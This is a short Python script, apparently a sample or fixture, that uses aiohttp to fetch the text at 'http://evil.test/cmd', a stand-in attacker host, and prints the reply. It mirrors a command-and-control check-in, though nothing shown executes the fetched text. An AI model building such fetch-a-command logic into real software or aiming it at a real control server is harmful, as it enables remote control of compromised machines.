import asyncio, aiohttp

async def main():
    async with aiohttp.ClientSession() as s:
        async with s.get("http://evil.test/cmd") as r:
            print(await r.text())

asyncio.run(main())
